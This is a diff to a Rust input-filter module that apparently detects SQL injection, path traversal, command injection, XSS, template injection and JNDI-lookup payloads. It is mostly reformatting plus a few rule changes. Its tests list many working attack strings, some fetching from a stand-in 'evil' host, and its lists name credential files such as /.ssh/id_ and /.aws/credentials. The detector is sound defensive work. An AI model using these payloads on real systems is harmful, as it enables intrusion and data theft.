@@ -129,7 +129,9 @@ fn is_lookup(text: &str) -> bool {
     text.contains("${jndi:")
         || text.find("${").is_some_and(|at| {
             let rest = text.get(at + 2..).unwrap_or_default();
-            rest.contains("${") && PARTS.iter().any(|part| text.contains(part)) && text.contains(':')
+            rest.contains("${")
+                && PARTS.iter().any(|part| text.contains(part))
+                && text.contains(':')
                 && (rest.contains("ndi") || rest.contains("://") || text.matches("${").count() >= 3)
         })
 }
@@ -163,7 +165,9 @@ fn has_handler(inside: &str) -> bool {
         let rest = inside.get(at + 2..).unwrap_or_default();
         let letters = rest.bytes().take_while(u8::is_ascii_lowercase).count();
         let follows = rest.get(letters..).unwrap_or_default().trim_start();
-        letters >= 3 && follows.starts_with('=') && matches!(before, Some(b' ' | b'/' | b'\t' | b'\n' | b'"' | b'\''))
+        letters >= 3
+            && follows.starts_with('=')
+            && matches!(before, Some(b' ' | b'/' | b'\t' | b'\n' | b'"' | b'\''))
     })
 }
 
@@ -174,8 +178,16 @@ fn breaks_attribute(rest: &str) -> bool {
 
 fn is_template(text: &str) -> bool {
     const INSIDE: [&str; 10] = [
-        "__class__", "__globals__", "__mro__", "__subclasses__", "t(java.lang", "getruntime", "freemarker.template",
-        "constructor.constructor", "self.environment", "config.items",
+        "__class__",
+        "__globals__",
+        "__mro__",
+        "__subclasses__",
+        "t(java.lang",
+        "getruntime",
+        "freemarker.template",
+        "constructor.constructor",
+        "self.environment",
+        "config.items",
     ];
     let opens = ["{{", "${", "#{", "<%=", "*{", "@{"];
     let sums = opens.iter().any(|open| {
@@ -223,7 +235,8 @@ fn squeezed(text: &str) -> String {
 }
 
 fn is_sql(text: &str) -> bool {
-    const SIGNS: [&str; 10] = ["'", "\"", "union", "select", ";", "sleep", " or ", " and ", "/**/", "||"];
+    const SIGNS: [&str; 11] =
+        ["order by", "'", "\"", "union", "select", ";", "sleep", " or ", " and ", "/**/", "||"];
     if !SIGNS.iter().any(|sign| text.contains(sign)) {
         return false;
     }
@@ -245,7 +258,8 @@ fn is_union(text: &str) -> bool {
         let rest = rest.strip_prefix("all").or_else(|| rest.strip_prefix("distinct")).unwrap_or(rest);
         let Some(rest) = rest.trim_start_matches([' ', '(']).strip_prefix("select") else { return false };
         let what = rest.trim_start_matches([' ', '(']);
-        let listed = what.contains(',') || what.contains(" from ") || what.contains("--") || what.contains('#');
+        let listed =
+            what.contains(',') || what.contains(" from ") || what.contains("--") || what.contains('#');
         let value = what.starts_with(|c: char| c.is_ascii_digit() || matches!(c, '\'' | '"' | '*' | '@'))
             || what.starts_with("null")
             || what.starts_with("concat(")
@@ -287,7 +301,9 @@ fn compares(rest: &str, quoted: bool) -> bool {
         return true;
     }
     let operator = ["<=>", "!=", "<>", "like ", "=", "<", ">"].iter().find(|sign| after.starts_with(**sign));
-    let Some(operator) = operator.filter(|sign| quoted || matches!(**sign, "=" | "like ")) else { return false };
+    let Some(operator) = operator.filter(|sign| quoted || matches!(**sign, "=" | "like ")) else {
+        return false;
+    };
     let second = after.get(operator.len()..).unwrap_or_default().trim_start();
     !first.is_empty() && literal(second).is_some()
 }
@@ -310,8 +326,19 @@ fn literal(text: &str) -> Option<(&str, &str)> {
 /// `'; drop table users`.
 fn is_stacked(text: &str) -> bool {
     const VERBS: [&str; 13] = [
-        "drop table ", "drop database ", "drop schema ", "delete from ", "insert into ", "truncate table ",
-        "alter table ", "create user ", "exec xp_", "exec master", "exec sp_", "waitfor delay", "declare @",
+        "drop table ",
+        "drop database ",
+        "drop schema ",
+        "delete from ",
+        "insert into ",
+        "truncate table ",
+        "alter table ",
+        "create user ",
+        "exec xp_",
+        "exec master",
+        "exec sp_",
+        "waitfor delay",
+        "declare @",
     ];
     text.match_indices(';').any(|(at, _)| {
         let rest = text.get(at + 1..).unwrap_or_default().trim_start();
@@ -329,7 +356,8 @@ fn is_timed(text: &str) -> bool {
             rest.starts_with(|c: char| c.is_ascii_digit())
         })
     };
-    let spliced = ["'", "\"", " and ", " or ", "select", "if(", "||", ";"].iter().any(|sign| text.contains(sign));
+    let spliced =
+        ["'", "\"", " and ", " or ", "select", "if(", "||", ";"].iter().any(|sign| text.contains(sign));
     called("pg_sleep(")
         || (called("benchmark(") && text.contains(','))
         || text.contains("waitfor delay '")
@@ -360,7 +388,8 @@ fn is_probe(text: &str) -> bool {
 /// `admin'--`: a quote that closes a string, and a comment that hides the rest. Quotes in pairs are prose.
 fn ends_in_comment(text: &str) -> bool {
     let text = text.trim_end().trim_end_matches(" -").trim_end_matches('+').trim_end();
-    let Some(rest) = text.strip_suffix("--").or_else(|| text.strip_suffix('#')).or_else(|| text.strip_suffix("/*"))
+    let Some(rest) =
+        text.strip_suffix("--").or_else(|| text.strip_suffix('#')).or_else(|| text.strip_suffix("/*"))
     else {
         return false;
     };
@@ -370,8 +399,28 @@ fn ends_in_comment(text: &str) -> bool {
 
 /// Commands that say what they do by their arguments, and those that say it by themselves.
 const COMMANDS: [&str; 22] = [
-    "cat", "ls", "id", "whoami", "uname", "wget", "curl", "nc", "ncat", "bash", "sh", "ping", "nslookup", "dig",
-    "powershell", "cmd", "sleep", "echo", "python", "perl", "type", "ifconfig",
+    "cat",
+    "ls",
+    "id",
+    "whoami",
+    "uname",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "bash",
+    "sh",
+    "ping",
+    "nslookup",
+    "dig",
+    "powershell",
+    "cmd",
+    "sleep",
+    "echo",
+    "python",
+    "perl",
+    "type",
+    "ifconfig",
 ];
 const TELLING: [&str; 5] = ["whoami", "uname", "ifconfig", "powershell", "nslookup"];
 
@@ -402,19 +451,31 @@ fn runs(rest: &str, sign: &str, before: &str) -> bool {
             || argument.contains("/etc/"));
     let ends = after.is_empty() || after.starts_with([';', '|', '&', ')', '`', '\n', '#']) || after == " ";
     // A list of names may be joined by these signs; what stands before tells a list from a value.
-    let is_list = before.bytes().all(|b| b.is_ascii_alphabetic() || matches!(b, b'_' | b'|' | b';' | b',' | b' '))
+    let is_list = before
+        .bytes()
+        .all(|b| b.is_ascii_alphabetic() || matches!(b, b'_' | b'|' | b';' | b',' | b' ' | b'='))
         && !before.trim().is_empty();
     match sign {
         "$(" => ends || with_argument,
         "`" => (ends && after.contains('`')) || (with_argument && after.contains('`')),
         _ if with_argument => true,
-        _ => ends && (TELLING.contains(&command) || !is_list) && !matches!(command, "type" | "cmd" | "python" | "perl"),
+        _ => {
+            ends && (TELLING.contains(&command) || !is_list)
+                && !matches!(command, "type" | "cmd" | "python" | "perl")
+        }
     }
 }
 
 /// Files that are asked for to see whether others can be.
 const FILES: [&str; 9] = [
-    "/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/", "win.ini", "boot.ini", "web-inf/web.xml", "/.ssh/id_",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/hosts",
+    "/proc/self/",
+    "win.ini",
+    "boot.ini",
+    "web-inf/web.xml",
+    "/.ssh/id_",
     "/.aws/credentials",
 ];
 
@@ -467,12 +528,31 @@ mod tests {
     #[test]
     fn sql_is_seen() {
         for text in [
-            "1' or '1'='1", "1%27%20OR%20%271%27%3D%271", "1 or 1=1", "' or 1=1--", "\" or \"\"=\"", "') or ('1'='1",
-            "1 and 1=2", "admin'--", "admin' #", "x') -- -", "1 UNION SELECT null,null", "-1' union all select 1,2,3--",
-            "1/**/union/**/select/**/username,password/**/from/**/users", "1; drop table users", "'; DELETE FROM users;",
-            "1' and sleep(5)--", "1;select pg_sleep(5)", "1' waitfor delay '0:0:5'--", "1 order by 10--",
-            "1 and extractvalue(1,concat(0x7e,version()))", "1%2527%2520or%25201%253D1--", "x' || '1'='1", "' or true--",
-            "1' or 'a' like 'a", "1 union select @@version",
+            "1' or '1'='1",
+            "1%27%20OR%20%271%27%3D%271",
+            "1 or 1=1",
+            "' or 1=1--",
+            "\" or \"\"=\"",
+            "') or ('1'='1",
+            "1 and 1=2",
+            "admin'--",
+            "admin' #",
+            "x') -- -",
+            "1 UNION SELECT null,null",
+            "-1' union all select 1,2,3--",
+            "1/**/union/**/select/**/username,password/**/from/**/users",
+            "1; drop table users",
+            "'; DELETE FROM users;",
+            "1' and sleep(5)--",
+            "1;select pg_sleep(5)",
+            "1' waitfor delay '0:0:5'--",
+            "1 order by 10--",
+            "1 and extractvalue(1,concat(0x7e,version()))",
+            "1%2527%2520or%25201%253D1--",
+            "x' || '1'='1",
+            "' or true--",
+            "1' or 'a' like 'a",
+            "1 union select @@version",
         ] {
             assert_eq!(value(text), Some(Payload::Sql), "{text}");
         }
@@ -480,34 +560,82 @@ mod tests {
 
     #[test]
     fn traversal_is_seen() {
-        for text in ["../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//../../../x", "/etc/passwd", "file:///etc/passwd", "..\\..\\..\\windows\\win.ini", "../x.php%00.png"] {
+        for text in [
+            "../../../etc/passwd",
+            "..%2f..%2f..%2fetc%2fpasswd",
+            "....//../../../x",
+            "/etc/passwd",
+            "file:///etc/passwd",
+            "..\\..\\..\\windows\\win.ini",
+            "../x.php%00.png",
+        ] {
             assert_eq!(value(text), Some(Payload::Traversal), "{text}");
         }
-        for text in ["/static/../../etc/passwd", "/a/..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/x", "/a/b/%252e%252e/%252e%252e/x", "/a/..;/manager"] {
+        for text in [
+            "/static/../../etc/passwd",
+            "/a/..%2f..%2f..%2fetc/passwd",
+            "/%2e%2e/%2e%2e/x",
+            "/a/b/%252e%252e/%252e%252e/x",
+            "/a/..;/manager",
+        ] {
             assert_eq!(path(text), Some(Payload::Traversal), "{text}");
         }
     }
 
     #[test]
     fn commands_are_seen() {
-        for text in ["127.0.0.1;id", "127.0.0.1|id", "127.0.0.1; cat /etc/passwd", "$(id)", "`id`", "x && curl http://evil/x", "a|whoami", ";sleep 5", "8.8.8.8%0aping -c 1 evil", "x;wget${IFS}http://evil", "$(/bin/cat /etc/passwd)"] {
+        for text in [
+            "127.0.0.1;id",
+            "127.0.0.1|id",
+            "127.0.0.1; cat /etc/passwd",
+            "$(id)",
+            "`id`",
+            "x && curl http://evil/x",
+            "a|whoami",
+            ";sleep 5",
+            "8.8.8.8%0aping -c 1 evil",
+            "x;wget${IFS}http://evil",
+            "$(/bin/cat /etc/passwd)",
+        ] {
             assert_eq!(value(text), Some(Payload::Command), "{text}");
         }
     }
 
     #[test]
     fn scripts_are_seen() {
-        for text in ["<script>alert(1)</script>", "%3Cscript%3E", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "\" onmouseover=alert(1) x=\"", "<iframe src=//evil>", "<body onload=x()>"] {
+        for text in [
+            "<script>alert(1)</script>",
+            "%3Cscript%3E",
+            "\"><img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "javascript:alert(1)",
+            "\" onmouseover=alert(1) x=\"",
+            "<iframe src=//evil>",
+            "<body onload=x()>",
+        ] {
             assert_eq!(value(text), Some(Payload::Script), "{text}");
         }
     }
 
     #[test]
     fn templates_and_lookups_are_seen() {
-        for text in ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "{{''.__class__.__mro__}}", "${T(java.lang.Runtime).getRuntime()}"] {
+        for text in [
+            "{{7*7}}",
+            "${7*7}",
+            "#{7*7}",
+            "<%= 7*7 %>",
+            "{{7*'7'}}",
+            "{{''.__class__.__mro__}}",
+            "${T(java.lang.Runtime).getRuntime()}",
+        ] {
             assert_eq!(value(text), Some(Payload::Template), "{text}");
         }
-        for text in ["${jndi:ldap://evil/x}", "${${lower:j}ndi:${lower:l}dap://evil}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil}", "%24%7Bjndi:dns://x%7D"] {
+        for text in [
+            "${jndi:ldap://evil/x}",
+            "${${lower:j}ndi:${lower:l}dap://evil}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil}",
+            "%24%7Bjndi:dns://x%7D",
+        ] {
             assert_eq!(value(text), Some(Payload::Lookup), "{text}");
         }
         assert_eq!(value("*)(uid=*))(|(uid=*"), Some(Payload::Ldap));
@@ -516,18 +644,83 @@ mod tests {
     #[test]
     fn what_people_and_programs_send_is_left_alone() {
         for text in [
-            "", "O'Brien", "rock 'n' roll", "how to select a union representative", "credit union select plan, benefits from us",
-            "select the best from our drop table", "union select", "it's 1 or 2", "a and b or c", "name eq 'x' or name eq 'y'",
-            "status='open' and owner='me'", "price>5 and price<10", "5 and 6", "1 or 2 bedrooms", "tom & jerry", "a;b;c",
-            "name|id", "id|name|ls", "id,name", "name;id", "fields=a|id", "sleep(5)", "{{name}}", "{{user.id}}", "${name}", "a<b", "x < 5 and y > 3", "<3", "1 < 2 > 0",
-            "<b>bold</b>", "<p>text</p>", "javascript", "javascript: the good parts", "../home", "../../home", "a/../b", "etc/passwd", "what is /etc/passwd", "c# or java", "-- hello --", "'quoted' #1",
-            "'hello' --", "100%", "50% or more", "2024-01-01 and 2024-02-01", "{\"a\":\"b or c\",\"d\":\"1=1\"}", "[\"x\",\"y\"]",
-            "ping me at 5; echo is bad", "cats | dogs", "echo chamber", "https://x.example/a?b=c&d='e'", "john's and mary's", "5' or 6' tall", "\"exact phrase\" or \"other\"", "on = off",
-            "(a OR b) AND (c OR d)", "title:\"x\" AND year:2020", "$filter=price gt 5 or id eq 7", "*", "(cn=x)", "drop table; insert coin",
+            "",
+            "O'Brien",
+            "rock 'n' roll",
+            "how to select a union representative",
+            "credit union select plan, benefits from us",
+            "select the best from our drop table",
+            "union select",
+            "it's 1 or 2",
+            "a and b or c",
+            "name eq 'x' or name eq 'y'",
+            "status='open' and owner='me'",
+            "price>5 and price<10",
+            "5 and 6",
+            "1 or 2 bedrooms",
+            "tom & jerry",
+            "a;b;c",
+            "name|id",
+            "id|name|ls",
+            "id,name",
+            "name;id",
+            "fields=a|id",
+            "sleep(5)",
+            "{{name}}",
+            "{{user.id}}",
+            "${name}",
+            "a<b",
+            "x < 5 and y > 3",
+            "<3",
+            "1 < 2 > 0",
+            "<b>bold</b>",
+            "<p>text</p>",
+            "javascript",
+            "javascript: the good parts",
+            "../home",
+            "../../home",
+            "a/../b",
+            "etc/passwd",
+            "what is /etc/passwd",
+            "c# or java",
+            "-- hello --",
+            "'quoted' #1",
+            "'hello' --",
+            "100%",
+            "50% or more",
+            "2024-01-01 and 2024-02-01",
+            "{\"a\":\"b or c\",\"d\":\"1=1\"}",
+            "[\"x\",\"y\"]",
+            "ping me at 5; echo is bad",
+            "cats | dogs",
+            "echo chamber",
+            "https://x.example/a?b=c&d='e'",
+            "john's and mary's",
+            "5' or 6' tall",
+            "\"exact phrase\" or \"other\"",
+            "on = off",
+            "(a OR b) AND (c OR d)",
+            "title:\"x\" AND year:2020",
+            "$filter=price gt 5 or id eq 7",
+            "*",
+            "(cn=x)",
+            "drop table; insert coin",
         ] {
             assert_eq!(value(text), None, "{text}");
         }
-        for text in ["/", "/orders/7", "/a/b/../c", "/static/x/y/../../z.png", "/files/my%20file%20(1).pdf", "/o'brien/x", "/a..b/c", "/v1/~me", "/it's-1-or-2", "/%E4%BD%A0", "/a;v=1/b;id=5"] {
+        for text in [
+            "/",
+            "/orders/7",
+            "/a/b/../c",
+            "/static/x/y/../../z.png",
+            "/files/my%20file%20(1).pdf",
+            "/o'brien/x",
+            "/a..b/c",
+            "/v1/~me",
+            "/it's-1-or-2",
+            "/%E4%BD%A0",
+            "/a;v=1/b;id=5",
+        ] {
             assert_eq!(path(text), None, "{text}");
         }
     }
